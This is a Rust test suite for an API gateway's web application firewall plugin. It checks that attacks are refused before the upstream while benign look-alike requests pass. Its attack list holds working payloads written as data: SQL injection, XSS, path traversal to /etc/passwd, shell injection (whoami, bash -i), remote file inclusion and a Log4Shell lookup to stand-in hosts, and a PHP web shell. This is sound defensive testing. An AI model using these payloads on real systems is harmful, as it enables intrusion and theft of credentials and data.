//! The `waf` plugin: attacks of each family refused before the upstream,
//! in plain, encoded and double-encoded forms; benign look-alikes served;
//! detect mode; exclusions by location; metrics and config errors.

use crate::config;
use crate::support::*;

/// A gateway with one route to `upstream` under `waf: WAF`, and the admin API.
pub(crate) fn gateway_config(upstream: &Upstream, waf: &str) -> String {
    config(
        r#"
listeners: [ { name: main, addr: "127.0.0.1:0" } ]
access_log: { enabled: false }
admin: { addr: "127.0.0.1:0", token: "$TOKEN" }
upstreams: { app: { targets: [ "$U" ] } }
routes:
  - { name: app, match: { path: / }, upstream: app, plugins: { waf: $WAF } }
"#,
        &[
            ("U", upstream.addr.to_string()),
            ("WAF", waf.to_string()),
            ("TOKEN", ADMIN_TOKEN.to_string()),
        ],
    )
}

/// Attacks as a client sends them (already URL-encoded where they must be).
const ATTACKS: &[(&str, &[(&str, &str)])] = &[
    ("/search?q=1%27%20OR%20%271%27%3D%271", &[]),
    (
        "/search?q=-1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--",
        &[],
    ),
    ("/item?id=1%3B%20DROP%20TABLE%20orders", &[]),
    ("/item?id=1%20AND%20SLEEP(5)", &[]),
    ("/comment?text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", &[]),
    ("/comment?text=%3Csvg%2Fonload%3Dalert(1)%3E", &[]),
    (
        "/comment?text=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
        &[],
    ),
    ("/go?next=javascript:alert(1)", &[]),
    ("/download?file=..%2F..%2F..%2Fetc%2Fpasswd", &[]),
    ("/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", &[]),
    ("/download?file=..%c0%af..%c0%afwindows%c0%afwin.ini", &[]),
    // (`..%2f` in the path itself never reaches the WAF: the canonical path
    // refuses it first, a 400 the adversarial tests check.)
    ("/static/%252e%252e%252f%252e%252e%252fetc/shadow", &[]),
    ("/ping?host=8.8.8.8%3Bcat%20%2Fetc%2Fpasswd", &[]),
    ("/ping?host=%24(whoami)", &[]),
    ("/ping?host=x%7Cbash%20-i", &[]),
    ("/page?include=http://203.0.113.7/shell.txt?", &[]),
    (
        "/page?include=php://filter/convert.base64-encode/resource=index.php",
        &[],
    ),
    ("/", &[("cookie", "session=abc; pref=' OR 1=1 --")]),
    ("/", &[("referer", "http://x/?q=<script>alert(1)</script>")]),
    ("/", &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]),
    ("/", &[("user-agent", "Mozilla/5.00 (Nikto/2.1.6)")]),
    ("/api?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D", &[]),
    ("/run?code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E", &[]),
];

/// What legitimate users send that looks a little like an attack.
const BENIGN: &[&str] = &[
    "/books?author=O%27Reilly&title=Learning%20SQL",
    "/pricing?q=select%20a%20plan",
    "/help?q=how%20to%20update%20or%20delete%20my%20account",
    "/search?q=rock%20%26%20roll%20%2B%20blues",
    "/calc?expr=2*(3%2B4)%3D14",
    "/docs/guides/getting-started?lang=en-US",
    "/shop?discount=50%25&sort=-price",
    "/users?email=ada.lovelace%40example.com",
    "/news?title=Union%20workers%20select%20new%20leader",
    "/recipes?q=fish%20%26%20chips%3B%20peas",
    "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
    "/files/report-2026.pdf",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_refused_before_the_upstream_and_look_alikes_pass() {
    let upstream = Upstream::named("app").await;
    let gw = Gateway::start(&gateway_config(&upstream, "{}")).await;
    for (path, headers) in ATTACKS {
        let reply = get_with(&gw.url(path), headers).await;
        let problem = reply.problem(403);
        let incident = reply.header("x-request-id").to_string();
        assert_eq!(problem["incident"], incident.as_str(), "{path}");
        let text = reply.text();
        for word in ["script", "passwd", "SELECT", "jndi", "whoami", "sqlmap"] {
            assert!(!text.contains(word), "the answer echoes the payload: {text}");
        }
    }
    assert_eq!(upstream.count(), 0, "no attack reached the upstream");
    for path in BENIGN {
        let reply = get_with(
            &gw.url(path),
            &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0")],
        )
        .await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.text());
    }
    assert_eq!(upstream.count(), BENIGN.len());

    // Refusals are counted by rule and action, and as the plugin's rejections.
    let metrics = gw.admin("GET", "/metrics", "").await.text();
    assert!(
        metrics.contains(r#"portico_waf_matches_total{action="block",route="app",rule="942100"}"#),
        "{metrics}"
    );
    assert!(metrics.contains(r#"portico_rejections_total{plugin="waf",reason="anomaly_score",route="app"}"#));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_logs_and_counts_but_lets_requests_on() {
    let upstream = Upstream::named("app").await;
    let gw = Gateway::start(&gateway_config(&upstream, "{ mode: detect }")).await;
    let reply = get(&gw.url("/search?q=1%27%20OR%20%271%27%3D%271")).await;
    assert_eq!(reply.status, 200);
    assert_eq!(upstream.count(), 1);
    let metrics = gw.admin("GET", "/metrics", "").await.text();
    assert!(
        metrics.contains(r#"portico_waf_matches_total{action="detect",route="app",rule="942100"}"#),
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_let_a_parameter_carry_what_the_route_expects() {
    let upstream = Upstream::named("app").await;
    let gw = Gateway::start(&gateway_config(
        &upstream,
        "{ exclude: [ { locations: [ \"query:html\" ] }, { rules: [ 942100, 942120 ], locations: [ \"cookie:*\" ] } ] }",
    ))
    .await;
    let html = "%3Cb%20onclick%3D%22toggle()%22%3Ebold%3C%2Fb%3E%3Cscript%3Ex()%3C%2Fscript%3E";
    assert_eq!(get(&gw.url(&format!("/cms?html={html}"))).await.status, 200);
    get(&gw.url(&format!("/cms?title={html}"))).await.problem(403);
    // Excluded for the SQL rules only: the others still see the cookie.
    let sqli_only = get_with(&gw.url("/"), &[("cookie", "q=1' or '1'='1")]).await;
    assert_eq!(sqli_only.status, 200, "{}", sqli_only.text());
    get_with(&gw.url("/"), &[("cookie", "q=<script>alert(1)</script>")])
        .await
        .problem(403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn methods_and_paranoia_levels() {
    let upstream = Upstream::named("app").await;
    let gw = Gateway::start(&gateway_config(&upstream, "{ allowed_methods: [GET] }")).await;
    let reply = send(
        http::Request::delete(gw.url("/x"))
            .body(http_body_util::Full::default())
            .unwrap(),
    )
    .await;
    reply.problem(403);
    // `document.domain` scores only from paranoia 2 (an error, 4: under the
    // default threshold alone).
    let probe = "/q?a=document.domain";
    assert_eq!(get(&gw.url(probe)).await.status, 200);
    let strict = Gateway::start(&gateway_config(&upstream, "{ paranoia: 2, threshold: 4 }")).await;
    get(&strict.url(probe)).await.problem(403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waf_config_errors_name_the_field() {
    let upstream = Upstream::named("app").await;
    for (waf, expected) in [
        (
            "{ paranoia: 5 }",
            "plugins.waf.paranoia: paranoia levels are 1 (default) to 4",
        ),
        (
            "{ threshold: 0 }",
            "plugins.waf.threshold: a threshold of 0 blocks everything",
        ),
        ("{ mode: audit }", "plugins.waf.mode"),
        (
            "{ exclude: [ { rules: [ 1 ] } ] }",
            "plugins.waf.exclude[0].rules[0]: there is no rule 1",
        ),
        (
            "{ exclude: [ { locations: [ \"body\" ] } ] }",
            "plugins.waf.exclude[0].locations[0]",
        ),
        (
            "{ exclude: [ {} ] }",
            "plugins.waf.exclude[0]: name `rules`, `locations`, or both",
        ),
        (
            "{ crs: { rules: /usr/share/modsecurity-crs/rules } }",
            "plugins.waf.crs: `crs` settings need `engine: crs`",
        ),
    ] {
        let errors = match portico::config::build(&gateway_config(&upstream, waf)) {
            Ok(_) => panic!("accepted: {waf}"),
            Err(errors) => errors.iter().map(|e| e.to_string()).collect::<Vec<_>>().join("\n"),
        };
        assert!(errors.contains(expected), "{waf}: {errors}");
    }
}

async fn post(gw: &Gateway, path: &str, content_type: &str, body: Vec<u8>) -> Reply {
    send(
        http::Request::post(gw.url(path))
            .header("content-type", content_type)
            .body(http_body_util::Full::new(bytes::Bytes::from(body)))
            .unwrap(),
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_are_inspected_by_their_type_and_reach_the_upstream_whole() {
    let upstream = Upstream::named("app").await;
    let gw = Gateway::start(&gateway_config(
        &upstream,
        "{ max_body: 4KiB, exclude: [ { locations: [ \"body:page.html\" ] } ] }",
    ))
    .await;
    let form = "application/x-www-form-urlencoded";
    post(&gw, "/login", form, b"user=admin%27--&pass=x".to_vec())
        .await
        .problem(403);
    post(
        &gw,
        "/json",
        "application/json",
        br#"{"user":{"bio":"<script>alert(1)</script>"}}"#.to_vec(),
    )
    .await
    .problem(403);
    post(
        &gw,
        "/json",
        "application/json",
        br#"{"cmd":"ping; cat /etc/passwd"}"#.to_vec(),
    )
    .await
    .problem(403);
    let multipart = |field: &str, file_type: &str, content: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{content}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"a.bin\"\r\nContent-Type: {file_type}\r\n\r\n<script>in a binary file</script>\r\n--XyZ--\r\n"
        )
        .into_bytes()
    };
    let multipart_type = "multipart/form-data; boundary=XyZ";
    post(
        &gw,
        "/upload",
        multipart_type,
        multipart("title", "image/png", "<img src=x onerror=alert(1)>"),
    )
    .await
    .problem(403);
    assert_eq!(upstream.count(), 0);

    // Look-alikes, an excluded field, and a binary part pass, byte for byte.
    let benign: Vec<(&str, Vec<u8>)> = vec![
        (form, b"author=O%27Reilly&q=select+a+plan".to_vec()),
        (
            "application/json",
            br#"{"name":"O'Reilly","note":"Union workers select a leader"}"#.to_vec(),
        ),
        (
            "application/json",
            br#"{"page":{"html":"<b onclick=\"go()\">bold</b>"}}"#.to_vec(),
        ),
        (multipart_type, multipart("title", "image/png", "Holiday photos")),
    ];
    for (i, (content_type, body)) in benign.iter().enumerate() {
        let reply = post(&gw, "/ok", content_type, body.clone()).await;
        assert_eq!(reply.status, 200, "{i}: {}", reply.text());
        assert_eq!(upstream.last().body, body.as_slice(), "{i}");
    }

    // Past `max_body` the rest streams on unread: the body arrives whole.
    let mut long = format!("{{\"text\":\"{}", "a".repeat(5000)).into_bytes();
    long.extend_from_slice(b" <script>alert(1)</script>\"}");
    let reply = post(&gw, "/long", "application/json", long.clone()).await;
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(upstream.last().body, long.as_slice());
    assert_eq!(
        upstream.last().headers["content-length"],
        long.len().to_string().as_str()
    );
}
